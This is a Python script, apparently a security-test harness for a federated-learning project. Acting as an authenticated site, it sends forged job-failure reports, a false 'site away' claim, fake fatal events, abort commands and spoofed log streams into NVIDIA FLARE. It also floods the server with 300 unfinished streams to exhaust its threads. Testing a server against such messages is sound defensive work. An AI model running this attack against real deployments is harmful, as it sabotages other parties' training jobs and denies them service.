# Copyright (c) 2026, the fedpeft authors. SPDX-License-Identifier: Apache-2.0
"""A registered site that sends the server and a job's process what only they send: `hostile_cell.py KIT PORT JOB`.

It prints the request and the code of the answer, one line each.
"""

import sys
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_constant import AdminCommandNames, ReservedKey, ServerCommandKey, ServerCommandNames
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal
from nvflare.apis.utils.fl_context_utils import gen_new_peer_ctx
from nvflare.app_common.logging.constants import LIVE_LOG_TOPIC, Channels
from nvflare.app_common.streamers.streamer_base import KEY_DATA, KEY_DATA_SIZE, KEY_EOF, KEY_FILE_NAME
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, MessageHeaderKey
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.fuel.f3.message import Message
from nvflare.fuel.f3.streaming.stream_const import (
    STREAM_CHANNEL,
    STREAM_DATA_TOPIC,
    StreamDataType,
    StreamHeaderKey,
)
from nvflare.fuel.hci.proto import StreamChannel
from nvflare.fuel.sec.authn import set_add_auth_headers_filters
from nvflare.private.defs import CellMessageHeaderKeys, ClientType, JobFailureMsgKey, new_cell_message
from nvflare.private.fed.authenticator import Authenticator
from nvflare.private.fed.utils.fed_utils import fobs_initialize
from nvflare.private.stream_runner import TOPIC_STREAM_REQUEST, HeaderKey
from nvflare.widgets.fed_event import FED_EVENT_TOPIC, FedEventHeader

from fedpeft.flare.returning_sites import AWAY

CODE = 101
STREAMS = 300


def registered(kit: Path, port: str) -> tuple[Cell, FLContext]:
    """A cell of the kit's site that the server takes for that site."""
    root, key, certificate = (str(kit / "startup" / name) for name in ("rootCA.pem", "client.key", "client.crt"))
    credentials = {
        DriverParams.CA_CERT.value: root,
        DriverParams.CLIENT_KEY.value: key,
        DriverParams.CLIENT_CERT.value: certificate,
    }
    fobs_initialize()
    cell = Cell(kit.name, f"http://localhost:{port}", True, credentials)
    cell.start()
    context = FLContext()
    context.set_prop(ReservedKey.IDENTITY_NAME, kit.name, private=False)
    files = {"root_cert_file": root, "private_key_file": key, "cert_file": certificate}
    times = {"msg_timeout": 10.0, "retry_interval": 1.0}
    entry = Authenticator(cell, "fedpeft", kit.name, ClientType.REGULAR, "server", True, **files, **times)
    token, signature, session, _ = entry.authenticate(gen_new_peer_ctx(context), Signal())
    set_add_auth_headers_filters(cell, kit.name, token, signature, session)
    return cell, context


def shareable(context: FLContext, headers: dict, **values) -> Shareable:
    made = Shareable()
    made.update(values)
    made.set_peer_context(gen_new_peer_ctx(context))
    made.set_peer_props({ReservedKey.IDENTITY_NAME: context.get_identity_name()})
    for name, value in headers.items():
        made.set_header(name, value)
    return made


def stream(context: FLContext, channel: str, topic: str, *, file: str = "", folders: tuple[str, str] = ("", "")):
    """The first part of a stream, which FLARE would write to a file: the names of its folders are the sender's."""
    site, job = folders
    headers = {
        HeaderKey.TX_ID: channel,
        HeaderKey.SEQ: 0,
        HeaderKey.TOPIC: topic,
        HeaderKey.CHANNEL: channel,
        HeaderKey.CTX: {KEY_FILE_NAME: file},
    }
    made = shareable(context, headers, **{KEY_DATA: b"#", KEY_DATA_SIZE: 1, KEY_EOF: False})
    made.set_peer_props({ReservedKey.IDENTITY_NAME: site or context.get_identity_name(), ReservedKey.RUN_NUM: job})
    return made


def flood(cell: Cell, target: str) -> None:
    """Begin streams that no chunk ends: FLARE would wait for them in all of its threads, for five minutes."""
    for number in range(STREAMS):
        headers = {
            StreamHeaderKey.CHANNEL: CellChannel.AUX_COMMUNICATION,
            StreamHeaderKey.TOPIC: "any",
            StreamHeaderKey.STREAM_ID: number,
            StreamHeaderKey.SEQUENCE: 0,
            StreamHeaderKey.DATA_TYPE: StreamDataType.CHUNK,
        }
        cell.core_cell.fire_and_forget(STREAM_CHANNEL, STREAM_DATA_TOPIC, target, Message(headers, b"#"))


def main(kit: Path, port: str, job: str, victim: str) -> None:
    """Send everything that could end the job or put the victim out of it."""
    cell, context = registered(kit, port)
    process = f"server.{job}"
    fatal = {
        FedEventHeader.EVENT_TYPE: EventType.FATAL_SYSTEM_ERROR,
        FedEventHeader.TIMESTAMP: 1.0,
        FedEventHeader.EVENT_ID: "one",
    }
    away = {ServerCommandKey.TOPIC: AWAY, ServerCommandKey.DATA: {"site": victim, "reason": "by a lie"}}
    failure = {JobFailureMsgKey.JOB_ID: job, JobFailureMsgKey.CODE: CODE, JobFailureMsgKey.REASON: "a lie"}
    log = stream(context, Channels.LOG_STREAMING_CHANNEL, LIVE_LOG_TOPIC, file="log.txt", folders=(victim, job))
    upload = stream(context, StreamChannel.UPLOAD, "any")
    command, parent = CellChannel.SERVER_COMMAND, CellChannel.SERVER_PARENT_LISTENER
    requests = [
        *[("server", CellChannel.SERVER_MAIN, CellChannelTopic.REPORT_JOB_FAILURE, failure)] * 20,
        ("server", parent, ServerCommandNames.UPDATE_RUN_STATUS, {"execution_error": True}),
        ("server", parent, ServerCommandNames.GET_CLIENTS, {}),
        (process, command, ServerCommandNames.APP_COMMAND, shareable(context, {}, **away)),
        (process, command, ServerCommandNames.HANDLE_DEAD_JOB, shareable(context, {})),
        (process, CellChannel.AUX_COMMUNICATION, FED_EVENT_TOPIC, shareable(context, fatal)),
        (process, command, AdminCommandNames.ABORT, shareable(context, {})),
        *[
            (target, CellChannel.AUX_COMMUNICATION, TOPIC_STREAM_REQUEST, one)
            for target in ("server", process)
            for one in (log, upload)
        ],
    ]
    # the job's process would forget the server, and nothing would reach it any more
    cell.core_cell.fire_and_forget(CellChannel.CELLNET, CellChannelTopic.Bye, process, Message())
    for target, channel, topic, payload in requests:
        message = new_cell_message({CellMessageHeaderKeys.JOB_ID: job}, payload)
        reply = cell.send_request(target=target, channel=channel, topic=topic, request=message, timeout=10.0)
        said = reply.payload.get_return_code() if isinstance(reply.payload, Shareable) else ""
        print(topic, *filter(None, (reply.get_header(MessageHeaderKey.RETURN_CODE), said)), flush=True)
    for target in ("server", process):
        flood(cell, target)
    cell.stop()


if __name__ == "__main__":
    main(Path(sys.argv[1]), *sys.argv[2:])
